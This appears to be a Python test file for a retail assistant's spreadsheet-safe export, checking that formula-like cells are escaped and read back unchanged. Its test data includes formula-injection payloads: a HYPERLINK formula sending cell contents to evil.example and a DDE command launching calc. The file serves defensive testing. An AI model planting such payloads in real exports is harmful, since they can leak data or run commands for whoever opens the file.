"""Exports hold no formulas, whoever wrote their texts, and lose no text by it."""

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retail_assistant.spreadsheets import cell_text, safe_cell, spreadsheet_safe

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@a",
    "\t=1",
    " =1",
    "\r",
    "\n=1",
    "\uff1dA1",
    "\uff0bA1",
    "\u00a0=1",
    "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.fault(
    "A shopper's question, a review or an answer of a model begins like a spreadsheet formula",
    "Exports (answers, feedback, candidates, labels) have it as text",
)
@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert cell_text(safe_cell(text)) == text


def test_a_frame_holds_no_formulas() -> None:
    texts = [*FORMULAS, "a=1", "1-2", "'=1", "", None]
    frame = pl.DataFrame({"text": texts, "number": range(len(texts))})
    safe = spreadsheet_safe(frame)
    wanted = [None if text is None else safe_cell(text) for text in texts]
    assert safe["text"].to_list() == wanted
    assert safe["number"].to_list() == list(range(len(texts)))


@given(st.text())
def test_no_cell_begins_a_formula_and_polars_agrees(text: str) -> None:
    cell = safe_cell(text)
    assert cell.lstrip()[:1] not in ("=", "+", "-", "@")
    assert cell in (text, f"'{text}")
    assert spreadsheet_safe(pl.DataFrame({"text": [text]}))["text"].item() == cell
    if not text.startswith("'"):
        assert cell_text(cell) == text


def test_what_a_spreadsheet_opens_is_what_was_written() -> None:
    buffer = io.BytesIO()
    spreadsheet_safe(pl.DataFrame({"text": FORMULAS})).write_csv(buffer)
    rows = csv.DictReader(io.StringIO(buffer.getvalue().decode(), newline=""))
    assert [cell_text(row["text"]) for row in rows] == FORMULAS
